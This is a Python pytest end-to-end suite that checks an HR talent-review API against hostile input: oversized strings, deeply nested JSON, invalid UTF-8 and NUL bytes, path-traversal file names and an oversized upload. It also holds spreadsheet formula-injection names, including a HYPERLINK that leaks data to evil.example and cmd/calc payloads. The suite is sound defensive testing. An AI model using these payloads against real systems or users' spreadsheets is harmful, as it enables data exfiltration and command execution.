"""Hostile payloads against the running product, through the gateway over TCP as a signed-in demo account.

Very long strings, deeply nested JSON, numbers no field can hold, bytes that are not UTF-8, NUL bytes, file names
that try to leave the upload folder, an upload over the limit, and names built to run as spreadsheet formulas.
Each is answered as API.md says (problem+json with its documented code where it is an error, never a 5xx), and
the services log no unhandled error while answering them.
"""

from __future__ import annotations

import asyncio
import csv
import io
import pathlib
import re
import uuid
from collections.abc import Iterator
from typing import Any

import httpx
import pytest

from services.launcher.stack import Stack
from tests.e2e.harness import Api, ok, problem
from tests.proof.logs import log_sizes, unhandled_since
from tests.proof.stack import UPLOAD_LIMIT

pytestmark = [pytest.mark.e2e, pytest.mark.timeout(300)]
ADMIN = "national.admin"
JSON = {"content-type": "application/json"}
REVIEWS = "/api/v1/talent-reviews"
PERSON = "198502282012032901"  # not in the demo data: the hostile imports write their own people
FORMULAS = {  # NIP -> a name a spreadsheet would run (OWASP CSV injection), one per dangerous first character
    "198502282012032902": '=HYPERLINK("http://evil.example/?leak="&A2,"Klik")',
    "198502282012032903": "+62 812 3456 7890",
    "198502282012032904": "-2+3+cmd|' /C calc'!A0",
    "198502282012032905": "@SUM(1+1)*cmd|' /C calc'!A0",
}
PLAIN = {"198502282012032906": "Budi Santoso, S.E."}


@pytest.fixture(autouse=True)
def no_unhandled_error(stack: Stack) -> Iterator[None]:
    """Whatever the answers were, no service logged an unhandled error while giving them."""
    sizes = log_sizes(stack)
    yield
    assert not unhandled_since(stack, sizes), "\n".join(unhandled_since(stack, sizes))


@pytest.fixture(scope="module")
async def agency(api: Api) -> str:
    """An agency of this suite's own (the fuzzers may have renamed or filled the demo ones)."""
    code = f"proof-hostile-{uuid.uuid4().hex[:8]}"
    ok(await api.post(ADMIN, "/api/v1/agencies", json={"code": code, "name": "Proof Hostile Payloads"}), 201)
    return code


def employees_csv(people: dict[str, str]) -> bytes:
    """An employees import (docs/imports/employees.csv's columns) of `people`, NIP -> name."""
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    writer.writerow(["NIP", "Nama", "Jenis Pegawai", "Gol/Ruang", "Pendidikan Terakhir"])
    writer.writerows([nip, name, "pns", "III/b", "s1"] for nip, name in people.items())
    return out.getvalue().encode()


async def upload(api: Api, agency: str, file: tuple[str, Any, str]) -> httpx.Response:
    """POST /api/v1/imports of an employees `file` (name, content, media type) into `agency`."""
    return await api.post(
        ADMIN, "/api/v1/imports", data={"kind": "employees", "agency_id": agency}, files={"file": file}
    )


async def body(api: Api, method: str, path: str, content: bytes) -> httpx.Response:
    """A raw JSON body, exactly these bytes."""
    return await api.request(ADMIN, method, path, headers=JSON, content=content)


async def finished(api: Api, started: httpx.Response) -> dict[str, Any]:
    """The job a 202 answer started (an import or a review), once it has ended."""
    ok(started, 202)
    return await api.wait_for_job(ADMIN, started.headers["location"])


def field_error(answer: httpx.Response, loc: list[Any], status: int = 422) -> dict[str, Any]:
    """A validation problem naming `loc`."""
    found = problem(answer, status, "validation_failed")
    assert loc in [error["loc"] for error in found["errors"]], found
    return found


# Very long strings


async def test_a_megabyte_name_is_refused_by_its_length(api: Api) -> None:
    answer = await api.post(ADMIN, "/api/v1/employees", json={"nip": PERSON, "name": "x" * 1_000_000})
    field_error(answer, ["body", "name"])


async def test_a_body_over_the_json_limit_is_a_413_naming_it(api: Api) -> None:
    answer = await api.post(ADMIN, "/api/v1/employees", json={"nip": PERSON, "name": "x" * 2_000_000})
    assert "1048576 bytes" in problem(answer, 413, "payload_too_large")["detail"]


@pytest.mark.parametrize(
    ("path", "params", "status", "code"),
    [
        ("/api/v1/employees", {"q": "x" * 6000}, 422, "validation_failed"),
        ("/api/v1/positions/" + "x" * 8000, {}, 404, "position_not_found"),
        ("/api/v1/employees/" + "1" * 8000, {}, 422, "validation_failed"),
    ],
    ids=["search", "position-id", "nip"],
)
async def test_long_strings_in_paths_and_queries(
    api: Api, path: str, params: dict[str, str], status: int, code: str
) -> None:
    problem(await api.get(ADMIN, path, params=params), status, code)


# Deeply nested JSON and numbers no field holds


@pytest.mark.parametrize(
    "content",
    [b"[" * 10_000 + b"]" * 10_000, b'{"a":' * 10_000 + b"1" + b"}" * 10_000, b'{"agency_id":' + b"[" * 10_000],
    ids=["arrays", "objects", "unclosed"],
)
async def test_json_nested_ten_thousand_levels_is_a_422(api: Api, content: bytes) -> None:
    field_error(await body(api, "POST", REVIEWS, content), ["body"])


@pytest.mark.parametrize(
    "number", [b"1" + b"0" * 400, b"1e309", b"-1e400", b"NaN", b"Infinity", b"-Infinity", b"-0", b"1e-400"]
)
async def test_numbers_no_field_holds_are_a_422(api: Api, agency: str, number: bytes) -> None:
    content = b'{"agency_id": "' + agency.encode() + b'", "period": ' + number + b"}"
    field_error(await body(api, "POST", REVIEWS, content), ["body", "period"])


@pytest.mark.parametrize("number", [b"1" + b"0" * 400, b"1e309", b"NaN", b"-Infinity"])
async def test_a_score_is_a_finite_number(api: Api, number: bytes) -> None:
    path = f"/api/v1/employees/{next(iter(PLAIN))}/potential-assessments"  # checked before the person is looked up
    content = b'{"assessed_on": "2025-01-01", "score": ' + number + b"}"
    field_error(await body(api, "POST", path, content), ["body", "score"])


# Bytes that are not UTF-8, and NUL


@pytest.mark.parametrize(
    "content", [b"\xff\xfe{", b'{"agency_id": "\xc3\x28", "period": 2025}', b'{"period": 2025\xc0\xaf}'],
    ids=["bom-of-utf16", "broken-sequence", "overlong-slash"],
)  # fmt: skip
async def test_a_body_that_is_not_utf8_is_a_422(api: Api, content: bytes) -> None:
    field_error(await body(api, "POST", REVIEWS, content), ["body"])


@pytest.mark.parametrize(
    "name", [b'"\\ud800"', b'"Budi \\udfff"', b'"\xed\xa0\x80"'], ids=["escaped", "escaped-low", "raw-bytes"]
)
async def test_a_lone_surrogate_is_a_422_naming_the_field(api: Api, name: bytes) -> None:
    """JSON can escape half a UTF-16 pair (and Python reads CESU bytes as one); no database can store it."""
    content = b'{"nip": "' + PERSON.encode() + b'", "name": ' + name + b', "employment_type": "pns"}'
    field_error(await body(api, "POST", "/api/v1/employees", content), ["body", "name"])


async def test_an_upload_that_is_not_utf8_is_a_415(api: Api, agency: str) -> None:
    answer = await upload(api, agency, ("pegawai.csv", employees_csv(PLAIN) + b"\xff\xfe\n", "text/csv"))
    problem(answer, 415, "unsupported_encoding")


async def test_percent_encoded_bytes_that_are_not_utf8_read_as_replacement_characters(api: Api) -> None:
    found = ok(await api.get(ADMIN, "/api/v1/employees?q=%ff%fe"))  # a search for "\ufffd\ufffd"
    assert isinstance(found["items"], list)
    problem(await api.get(ADMIN, "/api/v1/positions/%ff%fe"), 404, "position_not_found")


@pytest.mark.parametrize(
    ("method", "path", "kwargs", "loc"),
    [
        ("GET", "/api/v1/positions/a%00b", {}, ["path", "position_id"]),
        ("GET", "/api/v1/employees", {"params": {"q": "a\x00b"}}, ["query", "q"]),
        ("POST", REVIEWS, {"json": {"agency_id": "a\x00b", "period": 2025}}, ["body", "agency_id"]),
        ("POST", REVIEWS, {"headers": JSON, "content": b'{"agency_id": "a\x00b", "period": 2025}'}, ["body"]),
        ("POST", "/api/v1/imports", {"data": {"kind": "employees", "agency_id": "a\x00"}}, ["body", "agency_id"]),
    ],
    ids=["path", "query", "json-escape", "raw-byte-in-json", "form-field"],
)
async def test_nul_anywhere_is_a_422_naming_where(
    api: Api, method: str, path: str, kwargs: dict[str, Any], loc: list[str]
) -> None:
    if path == "/api/v1/imports":
        kwargs["files"] = {"file": ("pegawai.csv", employees_csv(PLAIN), "text/csv")}
    field_error(await api.request(ADMIN, method, path, **kwargs), loc)


# File names and sizes of uploads


@pytest.mark.parametrize(
    "name",
    ["../../etc/passwd", "/etc/passwd", "..\\..\\Windows\\win.ini", "pegawai\x00.csv", "a/../../../tmp/x.csv",
     "\u202egpj.csv", "x" * 1000 + ".csv"],
    ids=["traversal", "absolute", "windows", "nul", "nested-traversal", "bidi-override", "long"],
)  # fmt: skip
async def test_a_hostile_file_name_never_reaches_the_filesystem(api: Api, stack: Stack, agency: str, name: str) -> None:
    uploads = pathlib.Path(stack.extra_env["REGISTRY_IMPORT_DIR"])
    before = await asyncio.to_thread(filesystem_marks, uploads)
    job = await finished(api, await upload(api, agency, (name, employees_csv(PLAIN), "text/csv")))
    assert job["status"] == "completed", job
    shown = job["file_name"]  # kept for display only: no path, no control or odd character
    assert not {"/", "\\", "\x00", "\u202e"} & set(shown), shown
    assert ".." not in shown
    assert shown.isprintable()
    assert len(shown) <= 200
    assert await asyncio.to_thread(filesystem_marks, uploads) == before


def filesystem_marks(uploads: pathlib.Path) -> tuple[float, bool, list[str]]:
    """What a traversal would change: /etc/passwd's mtime, /tmp/x.csv, and any upload not named by the registry."""
    # The registry names an upload `<import id>.<csv|ndjson>` (`.part` while it arrives) and deletes it at the end.
    odd = [path.name for path in uploads.glob("*") if not re.fullmatch(r"[0-9a-f-]{36}\.(csv|ndjson|part)", path.name)]
    return pathlib.Path("/etc/passwd").stat().st_mtime, pathlib.Path("/tmp/x.csv").exists(), odd


async def test_a_file_name_longer_than_a_form_part_may_be_is_a_422(api: Api, agency: str) -> None:
    answer = await upload(api, agency, ("x" * 5000 + ".csv", employees_csv(PLAIN), "text/csv"))
    field_error(answer, ["body"])


async def test_an_upload_over_the_limit_is_a_413_naming_it(api: Api, agency: str) -> None:
    content = employees_csv(PLAIN) + b"\n" * UPLOAD_LIMIT  # blank lines: a readable file, only too large
    answer = await upload(api, agency, ("pegawai.csv", content, "text/csv"))
    assert f"{UPLOAD_LIMIT} bytes" in problem(answer, 413, "import_too_large")["detail"]


# Spreadsheet formulas


async def test_names_that_are_formulas_are_neutralised_in_the_csv_download_only(api: Api, agency: str) -> None:
    people = {**FORMULAS, **PLAIN}
    job = await finished(api, await upload(api, agency, ("pegawai.csv", employees_csv(people), "text/csv")))
    assert (job["status"], job["rows_written"], job["errors"]) == ("completed", len(people), []), job
    review = await finished(api, await api.post(ADMIN, REVIEWS, json={"agency_id": agency, "period": 2025}))
    assert review["status"] == "completed", review

    download = await api.get(ADMIN, f"{REVIEWS}/{review['id']}/placements.csv")
    assert download.status_code == 200, download.text
    assert download.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(download.content.decode("utf-8-sig"))))
    names = {row["nip"]: row["name"] for row in rows}
    assert names == {nip: "'" + name for nip, name in FORMULAS.items()} | PLAIN

    request_id = download.headers["x-request-id"]
    for nip, name in people.items():  # the JSON API answers what was imported, unchanged
        assert ok(await api.get(ADMIN, f"/api/v1/employees/{nip}"))["name"] == name
        assert ok(await api.get(ADMIN, f"{REVIEWS}/{review['id']}/placements/{nip}"))["name"] == name
        trail = ok(await api.get(ADMIN, "/api/v1/audit-events", params={"nip": nip, "limit": 500}))["items"]
        assert ("placements.export", request_id) in {(e["action"], e["request_id"]) for e in trail}  # a read of each
